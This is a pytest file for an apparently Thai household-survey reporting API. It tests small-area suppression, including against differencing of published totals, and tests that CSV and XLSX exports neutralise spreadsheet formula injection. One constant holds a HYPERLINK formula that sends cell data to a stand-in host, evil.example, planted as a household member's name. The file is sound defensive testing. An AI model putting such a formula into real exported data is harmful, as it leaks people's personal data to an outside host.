"""Aggregates never describe fewer households than the small-area threshold to roles
without personal-data rights (not even by subtracting one published figure from another),
and exported files never turn someone's text into a live formula."""
import csv
import io
import zipfile

import pytest

from app.areas.queries import get_area, get_lao
from app.auth.models import Role
from survey.reports import SUPPRESSED_TH
from tests.fixtures.survey import OTHER_VILLAGE, VILLAGE

REPORTS = "/api/v1/reports"


def submit(client, headers, body):
    response = client.post("/api/v1/households", headers=headers, json=body)
    assert response.status_code == 201, response.json
    return body


@pytest.fixture
def one_and_five(client, enumerator, auth_header, household_payload):
    """One household in VILLAGE (a small area), five in OTHER_VILLAGE."""
    headers = auth_header(enumerator)
    alone = household_payload(1)
    alone["answers"].update({"22.1.1": 123_457, "22.1.2": 0, "22.1.3": 0, "22.1.4": 0})
    submit(client, headers, alone)
    five = [submit(client, headers, household_payload(seed, village_code=OTHER_VILLAGE))
            for seed in range(2, 7)]
    return alone, five


def get(client, headers, path):
    response = client.get(f"{REPORTS}/{path}", headers=headers)
    assert response.status_code == 200, response.json
    return response.json


def test_a_single_household_is_not_shown_to_a_viewer(client, make_user, auth_header,
                                                     one_and_five):
    alone, _ = one_and_five
    viewer = auth_header(make_user(Role.VIEWER, area_code="65"))
    report = get(client, viewer, f"income-expense?round=2565&area={VILLAGE}")
    assert report["suppressed"] is True and report["households"] is None
    assert "income" not in report and "123457" not in str(report)
    population = get(client, viewer, f"population?round=2565&area={VILLAGE}")
    assert population["suppressed"] is True and "people_by_sex_age" not in population
    # An officer with personal-data rights sees the village exactly.
    officer = auth_header(make_user(Role.DISTRICT_OFFICER, area_code="6501"))
    exact = get(client, officer, f"income-expense?round=2565&area={VILLAGE}")
    assert exact["income"]["sum"] == 123_457 and exact["small_areas"]["threshold"] == 0


@pytest.mark.parametrize("role, scope", [(Role.VIEWER, {"area_code": "65"}),
                                         (Role.PROVINCE_OFFICER, {"area_code": "65"}),
                                         (Role.DEPARTMENT_ADMIN, {})])
def test_no_difference_of_published_figures_isolates_the_small_village(
        client, make_user, auth_header, one_and_five, role, scope):
    _, five = one_and_five
    headers = auth_header(make_user(role, **scope))
    lao = get_lao(get_area(VILLAGE).lao_code).code
    queries = ["area=650102&breakdown=true", f"lao={lao}&breakdown=true",
               "area=6501&breakdown=true", "area=65"] + ([""] if not scope else [])
    for query in queries:
        report = get(client, headers, f"income-expense?round=2565&{query}")
        # Every published total covers exactly the five households of OTHER_VILLAGE.
        assert report["households"] == 5, query
        assert report["small_areas"]["households"] == 1, query
        assert report["income"]["sum"] == get(
            client, headers, f"income-expense?round=2565&area={OTHER_VILLAGE}")["income"]["sum"]
        for row in report.get("breakdown", []):
            if row["code"] == VILLAGE:
                assert row["suppressed"] is True and "income" not in row
    people = sum(len(b["members"]) for b in five)
    population = get(client, headers, "population?round=2565&area=650102&breakdown=true")
    shown = [row for row in population["breakdown"] if not row.get("suppressed")]
    assert population["people"] == people == sum(row["people"] for row in shown)


def test_exports_carry_the_suppression(client, make_user, auth_header, one_and_five):
    viewer = auth_header(make_user(Role.VIEWER, area_code="65"))
    text = client.get(f"{REPORTS}/income-expense?round=2565&area=650102&breakdown=true"
                      "&format=csv", headers=viewer).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    small = [row for row in rows[1:] if row[0] == VILLAGE]
    assert small == [[VILLAGE, get_area(VILLAGE).name_th, SUPPRESSED_TH]]
    assert "123457" not in text


FORMULA = '=HYPERLINK("http://evil.example/?d="&H3,"คลิก")'


def sheet_xml(response) -> str:
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        return "".join(book.read(name).decode() for name in book.namelist()
                       if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml")


def test_a_name_that_looks_like_a_formula_stays_text(client, make_user, enumerator,
                                                     auth_header, household_payload):
    body = household_payload(8)
    body["members"][0]["first_name"] = FORMULA
    body["answers"].update({"22.1.1": 1000, "22.1.2": 0, "22.1.3": 0, "22.1.4": 0})
    submit(client, auth_header(enumerator), body)
    officer = auth_header(make_user(Role.DISTRICT_OFFICER, area_code="6501"))
    url = f"{REPORTS}/income-failing?round=2565&area={VILLAGE}"
    xml = sheet_xml(client.get(url + "&format=xlsx", headers=officer))
    assert "<f>" not in xml and "HYPERLINK" in xml
    text = client.get(url + "&format=csv", headers=officer).get_data(as_text=True)
    names = [row[-2] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]
    assert names == ["'" + FORMULA + " " + body["members"][0]["last_name"]]


def test_register_names_that_look_like_formulas_stay_text(client, make_user, enumerator,
                                                          auth_header, household_payload):
    district = auth_header(make_user(Role.DISTRICT_OFFICER, area_code="6501"))
    lao = get_lao(get_area(VILLAGE).lao_code)
    register = ("village_code,kind,name_th,subdistrict_code,lao_code,lao_type,lao_name_th\n"
                f'{VILLAGE},village,"=1+2",650102,{lao.code},{lao.type},{lao.name_th}\n')
    assert client.post("/api/v1/area-register", headers=district, data={
        "file": (io.BytesIO(register.encode()), "r.csv")}).status_code == 200
    submit(client, auth_header(enumerator), household_payload(9))
    url = f"{REPORTS}/population?round=2565&area=650102&breakdown=true"
    xml = sheet_xml(client.get(url + "&format=xlsx", headers=district))
    assert "<f>" not in xml and "=1+2" in xml
    text = client.get(url + "&format=csv", headers=district).get_data(as_text=True)
    assert ",'=1+2," in text and ",=1+2," not in text
